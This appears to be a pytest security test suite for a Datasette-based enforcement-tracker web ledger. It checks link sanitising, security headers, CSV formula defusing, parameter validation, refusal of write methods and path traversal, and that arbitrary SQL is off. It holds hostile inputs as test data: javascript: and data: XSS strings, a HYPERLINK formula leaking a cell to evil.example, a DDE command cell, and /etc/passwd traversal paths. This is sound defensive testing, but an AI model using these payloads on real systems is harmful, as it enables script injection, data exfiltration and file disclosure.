"""The web ledger against a hostile reader and hostile documents (issue 13).

No way in through a document (its `url:` or a quote shaped like a spreadsheet formula), strict
headers on every response, absolute URLs from the configured base URL only, every parameter
checked with a 400, writes refused with a 405, no 500 under any input, arbitrary SQL off, and a
plain `datasette` still working in the same environment.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import hashlib
import io
import json
import re
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from enforcement_tracker.errors import PublishError
from enforcement_tracker.publish import make_datasette
from enforcement_tracker.publish.csvsafe import CsvDefuser, defuse
from enforcement_tracker.publish.security import check_base_url, link_url
from enforcement_tracker.publish.synthetic import hostile_extraction, linked_extraction, write_ledger

HOSTILE_URLS = ["javascript:alert(1)", "JavaScript:alert(1)", " java\tscript:alert(1)", "\x01javascript:alert(1)",
                "jav\nascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
                "//evil.example/x", "/records/x", "file:///etc/passwd", "http:/no-host", "https://[::1"]
SAFE_URL = "https://news.example.org/2025/01/29/report?id=1&x=2"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click") '
BASE = "https://tracker.example.org/"


class Client:
    def __init__(self, path: Path, **options):
        self.ds = make_datasette(path, **options)
        self.loop = asyncio.new_event_loop()
        self.loop.run_until_complete(self.ds.invoke_startup())

    def get(self, url: str, **kwargs):
        return self.loop.run_until_complete(self.ds.client.get(url, **kwargs))

    def request(self, method: str, url: str, **kwargs):
        return self.loop.run_until_complete(self.ds.client.request(method, url, **kwargs))

    def raw(self, method: str, raw_path: bytes, headers: list[tuple[bytes, bytes]] | None = None):
        """One request straight into the ASGI app, path as sent on the wire (no client normalises it)."""
        path, _, query = raw_path.partition(b"?")
        scope = {"type": "http", "http_version": "1.1", "method": method, "scheme": "http",
                 "path": path.decode("latin-1"), "raw_path": path, "query_string": query, "root_path": "",
                 "headers": headers or [(b"host", b"evil.example")], "client": ("127.0.0.1", 5000),
                 "server": ("127.0.0.1", 8001)}
        messages: list[dict] = []

        async def receive():
            return {"type": "http.request", "body": b"", "more_body": False}

        async def send(message):
            messages.append(message)

        self.loop.run_until_complete(self.ds.app()(scope, receive, send))
        start = next(m for m in messages if m["type"] == "http.response.start")
        body = b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body")
        return start["status"], {k.decode(): v.decode() for k, v in start["headers"]}, body

    def close(self) -> None:
        self.loop.close()


@pytest.fixture(scope="module")
def ledger(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("security") / "ledger.db"
    extra = [hostile_extraction(), linked_extraction(SAFE_URL, lead=FORMULA)]
    extra += [linked_extraction(url) for url in HOSTILE_URLS]
    write_ledger(path, 200, seed=3, extra=extra)
    conn = sqlite3.connect(path)
    # An official figure that is negative (an importer's bug, say): in CSV it must stay a number.
    conn.execute("INSERT INTO ice_posted_daily (date, arrests, source_note) VALUES ('2024-12-31', -538, 'test')")
    conn.commit()
    conn.close()
    return path


@pytest.fixture(scope="module")
def web(ledger):
    client = Client(ledger, base_url=BASE)
    yield client
    client.close()


def _doc_id(url: str | None, lead: str = "") -> str:
    return linked_extraction(url, lead=lead).document.id


def _rec_id(url: str | None, lead: str = "") -> str:
    return linked_extraction(url, lead=lead).records[0].id


# --- 1. document URLs ------------------------------------------------------------------------

@pytest.mark.parametrize("url", HOSTILE_URLS + ["", None, 42, "   ", "ftp://example.org/x", "mailto:a@example.org"])
def test_only_http_and_https_urls_become_links(url):
    assert link_url(url) is None


@pytest.mark.parametrize("url, linked", [
    (SAFE_URL, SAFE_URL), ("HTTP://Example.org/a", "HTTP://Example.org/a"), ("  https://example.org/  ", "https://example.org/"),
    ("ht\ttps://example.org/a", "https://example.org/a"),  # a browser drops the tab too: the same address
])
def test_web_addresses_are_linked_as_the_browser_reads_them(url, linked):
    assert link_url(url) == linked


@pytest.mark.parametrize("url", HOSTILE_URLS)
@pytest.mark.parametrize("page", ["record", "document"])
def test_hostile_url_is_shown_as_text_never_as_a_link(web, url, page):
    path = f"/records/{_rec_id(url)}" if page == "record" else f"/documents/{_doc_id(url)}"
    response = web.get(path)
    assert response.status_code == 200
    hrefs = re.findall(r'href="([^"]*)"', response.text)
    assert not [h for h in hrefs if re.sub(r"[\s\x00-\x1f]", "", h).lower().startswith(("javascript", "data", "vbscript"))]
    assert "original" not in " ".join(re.findall(r"<a [^>]*>([^<]*)</a>", response.text)).lower()
    assert "not a web address, so not a link" in response.text


@pytest.mark.parametrize("page", ["record", "document"])
def test_a_web_address_is_still_a_link(web, page):
    path = f"/records/{_rec_id(SAFE_URL, FORMULA)}" if page == "record" else f"/documents/{_doc_id(SAFE_URL, FORMULA)}"
    text = web.get(path).text
    assert f'href="{SAFE_URL.replace("&", "&amp;")}"' in text
    assert "noreferrer" in text


def test_datasette_table_does_not_link_a_hostile_url(web, ledger):
    page = web.get(f"/{ledger.stem}/documents?_size=max")
    assert page.status_code == 200
    assert "javascript:alert(1)" in page.text  # shown, as text
    assert not re.search(r'href="\s*javascript', page.text, re.I)


# --- 2. headers on every response ------------------------------------------------------------

def _routes(ledger: Path) -> list[str]:
    db = ledger.stem
    return ["/", f"/records/{_rec_id(SAFE_URL, FORMULA)}", f"/documents/{_doc_id(SAFE_URL, FORMULA)}",
            "/api/records.json", "/export/records.csv", "/export/operations.geojson", "/feeds/records.atom",
            f"/{db}", f"/{db}/records", f"/{db}/records.json", f"/{db}/records.csv", f"/{db}/documents",
            f"/{db}/records/{_rec_id(SAFE_URL, FORMULA)}", f"/{db}/records_by_kind_and_state",
            "/-/versions.json", "/-/static/app.css", "/-/etrack/etrack.css", "/records/rec_0000000000000000",
            "/api/records.json?_size=-1", f"/{db}/nope", "/nope", f"/{db}?sql=select+1"]


def _policy(headers) -> dict[str, str]:
    return {part.strip().split(" ", 1)[0]: part.strip() for part in headers["content-security-policy"].split(";")}


def test_every_response_sends_the_security_headers(web, ledger):
    seen = set()
    for route in _routes(ledger):
        response = web.get(route)
        seen.add(response.status_code)
        policy = _policy(response.headers)
        assert policy["default-src"] == "default-src 'none'", route
        assert policy["frame-ancestors"] == "frame-ancestors 'none'", route
        assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-eval'" not in policy["script-src"], route
        assert policy["style-src"] == "style-src 'self' 'unsafe-inline'", route  # Datasette's per-table <style>
        assert policy["img-src"] == "img-src 'self' data:" and policy["base-uri"] == "base-uri 'none'", route
        assert response.headers["x-content-type-options"] == "nosniff", route
        assert response.headers["x-frame-options"] == "DENY", route
        assert response.headers["referrer-policy"] == "no-referrer", route
    assert {200, 400, 403, 404} <= seen  # errors carry them too


def _script_hash(body: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(body.encode("utf-8")).digest()).decode() + "'"


def test_every_inline_script_on_our_and_datasettes_pages_is_allowed_by_hash(web, ledger):
    checked = 0
    for route in _routes(ledger) + [f"/{ledger.stem}/documents?_facet=kind"]:
        response = web.get(route)
        if "text/html" not in response.headers.get("content-type", ""):
            continue
        allowed = _policy(response.headers)["script-src"].split()
        for attrs, body in re.findall(r"<script([^>]*)>(.*?)</script>", response.text, re.S):
            if "src=" not in attrs:
                assert _script_hash(body) in allowed, f"{route}: an inline script the policy blocks: {body[:80]!r}"
                checked += 1
        assert not re.search(r"<[a-zA-Z][^>]*\son[a-z]+=", response.text), route  # no inline handler either
    assert checked >= 10  # Datasette's menu script is on every page, its facet flag on table pages


# --- 3. absolute URLs from the base URL ------------------------------------------------------

@pytest.mark.parametrize("route", ["/feeds/records.atom", "/export/records.csv", "/export/operations.geojson",
                                   "/{db}/records.json?_size=2", "/{db}/records?_facet=kind"])
def test_absolute_urls_come_from_the_base_url_not_the_host_header(web, ledger, route):
    url = route.format(db=ledger.stem)
    text = web.get(url, headers={"host": "attacker.invalid", "x-forwarded-host": "attacker.invalid"}).text
    assert "attacker.invalid" not in text
    if "records.json" not in url:
        assert "https://tracker.example.org/" in text
    status, _, body = web.raw("GET", url.encode(), headers=[(b"host", b"attacker.invalid")])
    assert status == 200 and b"attacker.invalid" not in body


def test_default_base_url_names_the_loopback_address(ledger):
    client = Client(ledger)
    try:
        feed = client.get("/feeds/records.atom?_size=1", headers={"host": "attacker.invalid"}).text
    finally:
        client.close()
    assert "http://127.0.0.1:8001/records/" in feed and "attacker.invalid" not in feed


@pytest.mark.parametrize("value, expected", [("https://tracker.example.org", BASE), (BASE, BASE),
                                             ("http://127.0.0.1:9000/", "http://127.0.0.1:9000/"),
                                             ("http://[::1]:8001", "http://[::1]:8001/")])
def test_base_url_is_normalised(value, expected):
    assert check_base_url(value) == expected


@pytest.mark.parametrize("value", ["javascript:alert(1)", "tracker.example.org", "https://", "https://x.org/sub/path",
                                   "https://x.org/?q=1", "https://user:pw@x.org/", "https://x.org:99999/"])
def test_a_bad_base_url_is_refused_with_what_to_give(value):
    with pytest.raises(PublishError) as err:
        check_base_url(value)
    assert "--base-url" in str(err.value) and "https://tracker.example.org/" in str(err.value)


# --- 4. CSV cells defused --------------------------------------------------------------------

@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1 555 0100 (call)", "'+1 555 0100 (call)"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("-", "'-"),
    ("-inf", "'-inf"), ("-538", "-538"), ("+12", "+12"), ("-1.5e3", "-1.5e3"), ("-.5", "-.5"), ("1200", "1200"),
    ("ICE said", "ICE said"), ("'=already", "'=already"), ("", ""), (-538, -538), (0.5, 0.5), (None, None),
])
def test_formula_cells_are_prefixed_and_numbers_stay_numbers(cell, expected):
    assert defuse(cell) == expected


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64, 10_000])
def test_a_csv_stream_is_defused_whatever_its_chunks(size):
    rows = [["id", "quote", "n"], ["a", "=1+1", "-538"], ["b", 'two\nlines, "quoted"\r\n=x', "3"],
            ["c", "@me", "-1.5"], ["d", "é ü ✓", ""]]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    data = out.getvalue().encode("utf-8")
    defuser = CsvDefuser()
    chunks = [data[i:i + size] for i in range(0, len(data), size)]
    result = b"".join(defuser.feed(c, final=i == len(chunks) - 1) for i, c in enumerate(chunks))
    assert _rows(result.decode("utf-8")) == [[defuse(cell) for cell in row] for row in rows]


def test_our_csv_export_defuses_quotes_and_keeps_numbers(web):
    rows = _rows(web.get("/export/records.csv").text)
    header, body = rows[0], rows[1:]
    quote, count = header.index("quote"), header.index("count_value")
    formula = [r for r in body if r[header.index("id")] == _rec_id(SAFE_URL, FORMULA)]
    assert formula and formula[0][quote] == "'" + FORMULA + "ICE said it made 1,200 arrests on January 26."
    assert all(not r[quote].startswith(("=", "+", "-", "@", "\t", "\r")) for r in body)
    assert formula[0][count] in ("1200", "1200.0")


def test_datasettes_csv_defuses_too_and_keeps_negative_numbers(web, ledger):
    records = web.get(f"/{ledger.stem}/records.csv?_size=max")
    assert records.status_code == 200
    rows = _rows(records.text)
    quote = rows[0].index("quote")
    assert any(r[quote].startswith("'=HYPERLINK") for r in rows[1:])
    assert all(not r[quote].startswith("=") for r in rows[1:])
    posted = _rows(web.get(f"/{ledger.stem}/ice_posted_daily.csv?date=2024-12-31").text)
    arrests = posted[1][posted[0].index("arrests")]
    assert arrests in ("-538", "-538.0")  # a number, not "'-538"


def test_the_clis_csv_is_defused_too(ledger):
    from click.testing import CliRunner

    from enforcement_tracker.cli import main

    result = CliRunner().invoke(main, ["records", "--db", str(ledger), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = _rows(result.stdout)
    quote = rows[0].index("quote")
    assert any(r[quote].startswith("'=HYPERLINK") for r in rows[1:])
    assert all(not r[quote].startswith(("=", "+", "-", "@")) for r in rows[1:])


def test_datasettes_streamed_csv_is_defused_across_its_chunks(web, ledger):
    rows = _rows(web.get(f"/{ledger.stem}/records.csv?_stream=on&_size=max").text)
    quote = rows[0].index("quote")
    assert len(rows) > 200 and any(r[quote].startswith("'=HYPERLINK") for r in rows[1:])
    assert all(len(r) == len(rows[0]) for r in rows)  # no row cut where a chunk ended


# --- 5. parameters, methods, no 500 ----------------------------------------------------------

@pytest.mark.parametrize("query, parameter", [
    ("_size=-1", "_size"), ("_size=0", "_size"), ("_size=abc", "_size"), ("_size=99999999999999999999", "_size"),
    ("_size=1001", "_size"), ("_size=1e3", "_size"), ("_next=x,99999999999999999999", "_next"), ("_next=abc", "_next"),
    ("_next=2025-01-01,abc", "_next"), ("_next=<b>,12", "_next"), ("since=2025-13-45", "since"), ("until=2025-02-30", "until"),
    ("since=yesterday", "since"), ("kind=nope", "kind"), ("knd=operation", "knd"), ("_shape=nope", "_shape"),
    ("state=Colorado", "state"), ("place=" + "x" * 500, "place"),
])
def test_api_refuses_a_bad_parameter_with_a_400_that_names_it(web, query, parameter):
    response = web.get(f"/api/records.json?{query}")
    assert response.status_code == 400
    body = response.json()
    assert body["ok"] is False and body["parameter"] == parameter and body["error"]


def test_a_refused_datasette_argument_says_which_and_what_to_send(web, ledger):
    body = web.get(f"/{ledger.stem}/records.json?_sort=nope").json()
    assert body["ok"] is False and body["status"] == 400 and body["parameter"] == "_sort"
    assert "kind" in body["hint"]  # the columns it could sort by
    page = web.get(f"/{ledger.stem}/records?_timelimit=soon")
    assert page.status_code == 400 and "_timelimit must be a whole number" in page.text


@pytest.mark.parametrize("route", ["/feeds/records.atom?_size=-2", "/feeds/records.atom?_size=201",
                                   "/feeds/records.atom?_size=x", "/export/records.csv?_size=5",
                                   "/export/operations.geojson?since=2025-02-30", "/feeds/records.atom?agency=<x>"])
def test_feed_and_exports_refuse_bad_parameters(web, route):
    response = web.get(route)
    assert response.status_code == 400 and response.json()["ok"] is False


def test_feed_size_is_bounded_and_pages_follow_their_cursor(web):
    feed = web.get("/feeds/records.atom?_size=3").text
    assert feed.count("<entry>") == 3
    first = web.get("/api/records.json?_size=5").json()
    second = web.get(f"/api/records.json?_size=5&_next={first['next']}").json()
    assert len(second["records"]) == 5
    assert not {r["id"] for r in first["records"]} & {r["id"] for r in second["records"]}


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
def test_write_methods_answer_405_on_every_route(web, ledger, method):
    for route in _routes(ledger) + [f"/{ledger.stem}/records/-/insert", f"/{ledger.stem}/-/create", "/-/messages",
                                    "/-/logout", "/-/allow-debug"]:
        response = web.request(method, route, content=b'{"rows": [{"id": 1}]}',
                               headers={"content-type": "application/json"})
        assert response.status_code == 405, (method, route, response.status_code)
        assert response.headers["allow"] == "GET, HEAD, OPTIONS"
        assert "read-only" in response.text
        assert response.headers["x-frame-options"] == "DENY"


def test_read_methods_still_work_everywhere(web, ledger):
    for route in _routes(ledger):
        head = web.request("HEAD", route)
        assert head.status_code < 500 and "content-security-policy" in head.headers, route
        options = web.request("OPTIONS", route)
        assert options.status_code == 204 and options.headers["allow"] == "GET, HEAD, OPTIONS", route
        assert web.request("TRACE", route).status_code == 405


@pytest.mark.parametrize("raw_path", [b"/records/../../etc/passwd", b"/../../etc/passwd", b"/-/static/../../../etc/passwd",
                                      b"/-/etrack/../../../../etc/passwd", b"/documents/%2e%2e%2f%2e%2e%2fetc",
                                      b"/%00", b"/records/%ff%fe", b"/api/records.json?%ff=%fe"])
def test_raw_traversal_paths_get_a_clean_error_page(web, raw_path):
    status, headers, body = web.raw("GET", raw_path)
    assert status in (302, 400, 404)  # Datasette redirects a NUL path to its canonical form
    assert b"root:" not in body and b"Traceback" not in body
    assert "content-security-policy" in headers


def test_a_crash_behind_the_layer_is_a_logged_500_with_the_headers(capsys):
    from enforcement_tracker.publish.security import secure

    async def broken(scope, receive, send):
        raise RuntimeError("a bug in a page")

    app = secure(broken, base_url=BASE, policy="default-src 'none'")
    messages = []

    async def send(message):
        messages.append(message)

    async def receive():
        return {"type": "http.request", "body": b""}

    scope = {"type": "http", "method": "GET", "path": "/api/records.json", "query_string": b"", "headers": []}
    asyncio.run(app(scope, receive, send))
    start, body = messages[0], messages[1]["body"]
    assert start["status"] == 500 and (b"content-security-policy", b"default-src 'none'") in start["headers"]
    assert json.loads(body)["error"].startswith("The ledger could not answer")
    assert "RuntimeError: a bug in a page" in capsys.readouterr().err  # in the server's log, not the page


HOSTILE_VALUES = ["", "-1", "abc", "99999999999999999999", "x,99999999999999999999", "1e400", "\x00", '"', "%",
                  "2025-13-45", "rowid", "<script>", "a" * 3000, "(", "{}", "\ud800"]
# What each kind of route reads, plus names it does not read (a typo, a Datasette argument).
OUR_PARAMETERS = ["_size", "_next", "_shape", "kind", "place", "state", "agency", "since", "until", "publisher",
                  "_format", "sql", "nope"]
TABLE_PARAMETERS = ["_size", "_next", "_sort", "_sort_desc", "_search", "_facet", "_facet_array", "_facet_date",
                    "_facet_agency", "_agency", "_where", "_col", "_nocol", "_labels", "_shape", "_json", "_nl",
                    "_timelimit", "_through", "_stream", "_dl", "_format", "kind", "count_value__gt", "kind__in",
                    "nope__exact", "sql", "_search_col"]
PAGE_PARAMETERS = ["sql", "_size", "_shape", "_format", "_json", "_timelimit", "_trace", "nope"]


def _no_server_error(web, routes: list[str], parameters: list[str], values: list[str]) -> list[tuple[int, str]]:
    from urllib.parse import quote

    failures = []
    for route in routes:
        for name in parameters:
            for value in values:
                url = f"{route}{'&' if '?' in route else '?'}{quote(name)}={quote(value, safe='', errors='surrogatepass')}"
                status = web.get(url).status_code
                if status >= 500:
                    failures.append((status, url[:160]))
    return failures


@pytest.mark.parametrize("route, parameters", [
    ("/", OUR_PARAMETERS), ("/api/records.json", OUR_PARAMETERS), ("/feeds/records.atom", OUR_PARAMETERS),
    ("/export/records.csv", OUR_PARAMETERS), ("/export/operations.geojson", OUR_PARAMETERS),
    ("/records/{rec}", OUR_PARAMETERS), ("/documents/{doc}", OUR_PARAMETERS),
    ("/{db}/records.json", TABLE_PARAMETERS), ("/{db}/documents", TABLE_PARAMETERS),
    ("/{db}/record_places.csv", TABLE_PARAMETERS), ("/{db}", PAGE_PARAMETERS), ("/{db}/records/{rec}", PAGE_PARAMETERS),
    ("/{db}/records_by_kind_and_state", PAGE_PARAMETERS), ("/-/versions.json", PAGE_PARAMETERS),
])
def test_no_route_answers_500_to_any_parameter(web, ledger, route, parameters):
    url = route.format(db=ledger.stem, rec=_rec_id(SAFE_URL, FORMULA), doc=_doc_id(SAFE_URL, FORMULA))
    assert _no_server_error(web, [url], parameters, HOSTILE_VALUES) == []


@pytest.mark.parametrize("path", ["/records/" + "x" * 5000, "/records/rec_%00", "/documents/sha256:..",
                                  "/{db}/records/%00", "/{db}/nope.json", "/{db}/records.nope", "/-/etrack/nope.css",
                                  "/{db}/records/rec_x.json?_shape=objects", "/{db}.json?sql=select+1"])
def test_odd_paths_are_never_a_500(web, ledger, path):
    assert web.get(path.format(db=ledger.stem)).status_code < 500


# --- 6. arbitrary SQL ------------------------------------------------------------------------

def test_arbitrary_sql_is_off_and_canned_queries_and_our_pages_work(web, ledger):
    db = ledger.stem
    assert web.get(f"/{db}?sql=select+text+from+documents").status_code == 403
    assert web.get(f"/{db}.json?sql=select+1").status_code == 403
    assert web.get(f"/{db}/records?_where=1=1").status_code == 403
    canned = web.get(f"/{db}/records_by_kind_and_state.json?_shape=array")
    assert canned.status_code == 200 and {"kind", "state", "records"} <= set(canned.json()[0])
    for route in ["/", f"/records/{_rec_id(SAFE_URL, FORMULA)}", "/api/records.json", f"/{db}/records?kind=target"]:
        assert web.get(route).status_code == 200, route


def test_allow_sql_turns_it_back_on(ledger):
    client = Client(ledger, allow_sql=True)
    try:
        answer = client.get(f"/{ledger.stem}.json?sql=select+count(*)+as+n+from+records&_shape=array")
    finally:
        client.close()
    assert answer.status_code == 200 and answer.json()[0]["n"] > 200


def test_serve_refuses_a_bad_base_url_in_one_line(ledger):
    from click.testing import CliRunner

    from enforcement_tracker.cli import main

    result = CliRunner().invoke(main, ["serve", "--db", str(ledger), "--base-url", "javascript:alert(1)"])
    assert result.exit_code == 1
    assert "--base-url 'javascript:alert(1)': must start with http:// or https://" in result.output
    helped = CliRunner().invoke(main, ["serve", "--help"]).output
    assert "--base-url" in helped and "--allow-sql" in helped


# --- 7. plain datasette in the same environment ----------------------------------------------

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_plain_datasette_runs_beside_the_plugin(tmp_path):
    version = subprocess.run([sys.executable, "-m", "datasette", "--version"], capture_output=True, text=True,
                             timeout=120)
    assert version.returncode == 0 and "datasette, version" in version.stdout, version.stderr
    plugins = subprocess.run([sys.executable, "-m", "datasette", "plugins"], capture_output=True, text=True, timeout=120)
    assert plugins.returncode == 0 and "enforcement-tracker" in plugins.stdout, plugins.stderr
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("CREATE TABLE birds (name TEXT)")
    conn.execute("INSERT INTO birds VALUES ('heron')")
    conn.commit()
    conn.close()
    port = _free_port()
    proc = subprocess.Popen([sys.executable, "-m", "datasette", "serve", str(other), "-p", str(port)],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                with urllib.request.urlopen(f"http://127.0.0.1:{port}/other/birds.json?_shape=array", timeout=2) as r:
                    rows, headers = json.loads(r.read()), r.headers
                break
            except OSError:
                if proc.poll() is not None or time.monotonic() > deadline:
                    pytest.fail(f"plain datasette did not serve: {proc.stdout.read() if proc.stdout else ''}")
                time.sleep(0.3)
        assert [row["name"] for row in rows] == ["heron"]
        assert "content-security-policy" not in headers  # our wrapper is for ledgers only
    finally:
        proc.terminate()
        proc.wait(timeout=10)
